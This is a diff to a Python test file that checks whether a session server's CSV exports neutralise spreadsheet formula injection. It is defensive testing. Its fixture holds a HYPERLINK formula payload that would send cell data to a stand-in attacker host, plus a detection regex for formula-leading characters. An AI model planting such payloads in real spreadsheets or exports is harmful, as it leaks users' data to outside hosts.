@@ -1,5 +1,9 @@
 """Downloads as they are asked for; what is in them is tested in ``tests/server/exports``."""
 
+import csv
+import io
+import re
+
 import pytest
 
 from server.http.exports import FORMATS
@@ -59,3 +63,39 @@ async def test_how_the_places_came_about_waits_until_the_replay_is_open(house: H
     for key in keys:
         assert "PPI" not in (await house.get(f"{path}/traces", key)).text
     assert HOW in (await house.get(f"{path}/record", seat["seatKey"])).text
+
+
+FORMULA = '=HYPERLINK("https://evil.example?"&A1;"click")'
+SHEETS = [name for name, form in FORMATS.items() if form.media_type.startswith("text/csv")]
+
+
+@pytest.mark.proves("G55")
+async def test_no_sheet_has_a_cell_that_runs(house: House) -> None:
+    """Whatever was written, wherever: in each of our CSV files no cell of words begins with what begins a formula."""
+    opened = await house.open()
+    session, key = opened["session"], opened["facilitatorKey"]
+    seats = [await house.join(opened["code"], f"{sign}1+{sign}2") for sign in "=+-@＝"]
+    fac, _ = await house.tablet(session, key, "fac")
+    ann, _ = await house.tablet(session, seats[0]["seatKey"], "ann")
+    card = f"{SCALE}:link-workers:employer"
+    doings: dict[str, list[dict[str, object]]] = {
+        SCALE: [
+            {"type": "addNote", "text": FORMULA, "x": 5, "y": 5},
+            {"type": "moveNote", "note": card, "x": 900, "y": 5},
+            {"type": "comment", "on": card, "text": FORMULA},
+            {"type": "explainNote", "note": card, "text": FORMULA},
+        ],
+        "for-and-against": [{"type": "addPoint", "aspect": "employer", "side": "con", "text": FORMULA}],
+        "looking-back": [{"type": "reflect", "prompt": "surprised", "text": FORMULA}],
+    }
+    for activity, commands in doings.items():
+        await fac.done({"type": "startActivity", "activity": activity})
+        for command in commands:
+            assert (await ann.done(command))["type"] != "refused", command
+    found = 0
+    for name in SHEETS:
+        text = (await house.get(f"/api/sessions/{session}/export/{name}", key)).content.decode("utf-8-sig")
+        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+        assert not [cell for cell in cells if re.match(r"\s*[=+@＝＋－＠]|\s*-(?![\d.]+$)", cell)], name
+        found += sum("HYPERLINK" in cell for cell in cells)
+    assert found >= 4
